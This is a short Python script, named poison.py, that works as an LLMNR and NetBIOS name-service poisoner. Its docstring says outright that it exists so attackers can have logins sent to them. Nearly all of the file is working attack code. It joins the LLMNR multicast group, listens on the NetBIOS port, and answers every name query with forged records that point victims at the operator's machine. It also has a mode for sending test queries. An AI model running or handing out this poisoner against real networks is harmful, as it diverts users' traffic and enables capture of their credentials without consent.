#!/usr/bin/env python3
"""Whoever asks everybody for a name learns that it is this machine's, as attackers do it to have logins sent to them.

poison.py answer ADDRESS   answers NetBIOS (RFC 1002) and LLMNR (RFC 4795) until it is killed
poison.py ask NAME...      asks by LLMNR, as Windows does where DNS has no answer
"""
import socket
import struct
import sys
import threading

NETBIOS, LLMNR, GROUP = 137, 5355, "224.0.0.252"


def answer(sock, address, netbios):
    while True:
        asked, whom = sock.recvfrom(1500)
        if asked[2] & 0x80 or len(asked) < 17:
            continue
        name = asked[12:asked.index(0, 12) + 1]
        head = asked[:2] + (b"\x85\x00\0\0\0\1\0\0\0\0" if netbios else b"\x80\x00\0\1\0\1\0\0\0\0")
        question = b"" if netbios else name + b"\0\1\0\1"
        data = (b"\0\0" if netbios else b"") + socket.inet_aton(address)
        record = name + struct.pack(">HHIH", 32 if netbios else 1, 1, 30, len(data)) + data
        sock.sendto(head + question + record, whom)


def listen(address, port):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("", port))
    if port == LLMNR:
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(GROUP) + socket.inet_aton(address))
    return sock


def ask(names):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(1)
    for number, name in enumerate(names):
        question = bytes([len(name)]) + name.encode() + b"\0\0\1\0\1"
        sock.sendto(struct.pack(">HHHHHH", 1000 + number, 0, 1, 0, 0, 0) + question, (GROUP, LLMNR))
        try:
            sock.recv(1500)
        except socket.timeout:
            pass


if sys.argv[1] == "ask":
    ask(sys.argv[2:])
else:
    for port in NETBIOS, LLMNR:
        threading.Thread(target=answer, args=(listen(sys.argv[2], port), sys.argv[2], port == NETBIOS)).start()
